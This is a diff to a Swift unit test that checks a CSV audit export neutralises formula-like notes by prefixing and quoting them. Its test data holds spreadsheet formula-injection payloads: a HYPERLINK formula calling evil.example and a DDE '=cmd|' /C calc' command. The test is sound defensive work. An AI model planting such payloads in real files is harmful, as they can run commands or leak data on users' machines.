@@ -17,7 +17,8 @@ final class AuditCSVExportTests: XCTestCase {
     }
 
     func testFormulaLikeNotesAndReasonsAreNeutralisedAndQuoted() throws {
-        let notes = ["=1+2", "+1+1 called back", "-2+3 minus, with a comma", "@SUM(A1:A2)",
+        // Each is a sentence a reviewer can use (the one rule for notes), starting as a formula would.
+        let notes = ["=1+2 is what the caller read out", "+1+1 called back", "-2+3 minus, with a comma", "@SUM(A1:A2) pasted by the caller",
                      #"=HYPERLINK("http://evil.example/?q=1","click me")"#, "A plain note, nothing to neutralise"]
         let refusal = "=cmd|' /C calc'!A0 caller insisted it was urgent"
         let resetReason = "+ Lost device; identity verified via video call \(handrail.today), see INC-1001"
@@ -42,10 +43,10 @@ final class AuditCSVExportTests: XCTestCase {
         XCTAssertTrue(csv.hasSuffix("\r\n"), "rows end with CRLF")
 
         // Exactly as written: the apostrophe inside the quotes, embedded quotes doubled.
-        XCTAssertTrue(csv.contains(#","'=1+2","#), csv)
+        XCTAssertTrue(csv.contains(#","'=1+2 is what the caller read out","#), csv)
         XCTAssertTrue(csv.contains(#","'+1+1 called back","#), csv)
         XCTAssertTrue(csv.contains(#","'-2+3 minus, with a comma","#), csv)
-        XCTAssertTrue(csv.contains(#","'@SUM(A1:A2)","#), csv)
+        XCTAssertTrue(csv.contains(#","'@SUM(A1:A2) pasted by the caller","#), csv)
         XCTAssertTrue(csv.contains(#","'=HYPERLINK(""http://evil.example/?q=1"",""click me"")","#), csv)
         XCTAssertTrue(csv.contains(#","'=cmd|' /C calc'!A0 caller insisted it was urgent","#), csv)
         XCTAssertTrue(csv.contains(",A plain note, nothing to neutralise,") == false, "a cell with a comma is quoted")
